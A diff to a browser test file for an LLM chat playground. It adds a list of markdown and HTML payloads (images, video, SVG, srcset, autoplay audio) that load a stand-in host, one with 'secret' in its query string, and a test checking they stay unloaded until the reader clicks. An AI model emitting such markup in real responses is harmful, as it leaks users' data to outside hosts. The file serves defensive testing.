@@ -57,8 +57,15 @@ beforeEach(async () => {
 
 afterEach(() => opened.close())
 
-function writeMarkdown(): Response {
-  const chunk = { choices: [{ index: 0, delta: { content: WRITTEN }, finish_reason: null }] }
+const IMAGE_URL = 'https://pictures.example/stolen'
+/** Every way to have something loaded by showing a text. */
+const IMAGES = `![secret](${IMAGE_URL}?text=secret)\n
+<video src="${IMAGE_URL}" poster="${IMAGE_URL}"></video><table background="${IMAGE_URL}"><tr><td>x</td></tr></table>
+<svg><image href="${IMAGE_URL}"/></svg><img srcset="${IMAGE_URL} 2x"><audio src="${IMAGE_URL}" autoplay></audio>`
+
+async function writeMarkdown(request: Request): Promise<Response> {
+  const content = (await request.text()).includes('images') ? IMAGES : WRITTEN
+  const chunk = { choices: [{ index: 0, delta: { content }, finish_reason: null }] }
   const text = `data: ${JSON.stringify(chunk)}\n\ndata: [DONE]\n\n`
   return new Response(text, { headers: { 'content-type': 'text/event-stream' } })
 }
@@ -181,6 +188,28 @@ describe('a response', () => {
     expect(await page.evaluate<string>('window.copied')).toBe('const a = 1')
     expect(await page.evaluate<unknown>('window.hacked')).toBeUndefined()
     expect(await responses().locator('script, [onerror]').count()).toBe(0)
+  })
+
+  test('loads an image of a response only when the reader asks for it', async () => {
+    const loaded: string[] = []
+    await page.route(`${IMAGE_URL}**`, route => {
+      loaded.push(route.request().url())
+      return route.fulfill({
+        body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
+        contentType: 'image/svg+xml',
+      })
+    })
+    await openPlayground(`?model=${WRITER}&group=vip`)
+    await ask('images')
+    await inState('complete').waitFor()
+    const name = 'Show the image from pictures.example: secret'
+    const button = responses().getByRole('button', { name })
+    await button.waitFor()
+    await page.waitForLoadState('networkidle')
+    expect(loaded).toEqual([])
+    await button.click()
+    await waitUntil({ description: 'the image', timeoutMs: 5000 }, async () => loaded.length > 0)
+    expect(loaded).toEqual([`${IMAGE_URL}?text=secret`])
   })
 
   test('shows a server error in the conversation', async () => {
